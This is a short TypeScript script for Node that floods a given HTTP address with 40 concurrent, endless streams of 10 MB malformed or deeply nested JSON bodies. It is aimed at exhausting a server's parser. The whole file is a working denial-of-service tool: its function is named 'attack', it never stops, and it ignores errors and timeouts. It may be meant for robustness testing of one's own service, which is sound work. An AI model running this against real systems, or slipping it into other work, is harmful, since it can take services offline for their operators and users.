// Sends hostile bodies, so many at once, again and again: address, token ('' for a stranger), paths.
import { Agent, request } from 'node:http'
import { setTimeout as sleep } from 'node:timers/promises'

const AT_ONCE = 40
const SIZE = 10_000_000
const [url = '', token = '', ...paths] = process.argv.slice(2)

/** What makes a parser work, each 10 MB. */
const BODIES = [
  `[${'[[[[]]]],'.repeat(SIZE / 9)}[]]`,
  `[${'0,'.repeat(SIZE / 2)}0]`,
  `{"a":"${'\\u00e9'.repeat(SIZE / 6)}"}`,
  '['.repeat(SIZE),
  `{"a":"${'x'.repeat(SIZE)}`,
].map((text) => Buffer.from(text))

const agent = new Agent({ maxSockets: AT_ONCE })

/** One body, with its length or in chunks; whatever becomes of it is over after 15 s. */
function send(index: number): Promise<void> {
  const { promise, resolve } = Promise.withResolvers<void>()
  const body = BODIES[index % BODIES.length]!
  const call = request(new URL(paths[index % paths.length]!, url), {
    agent,
    method: 'POST',
    headers: {
      'content-type': 'application/json',
      ...(token === '' ? {} : { token }),
      ...(index % 2 === 0 ? { 'content-length': body.length } : {}),
    },
    timeout: 15_000,
  })
  call.once('response', (answer) => answer.resume())
  call.once('timeout', () => call.destroy())
  call.once('error', () => {})
  call.once('close', resolve)
  call.end(body)
  return promise
}

async function attack(first: number): Promise<never> {
  for (let index = first; ; index += AT_ONCE) {
    await send(index)
    await sleep(1)
  }
}

console.log(`ready at ${url}`)
await Promise.all(Array.from({ length: AT_ONCE }, (_, index) => attack(index)))
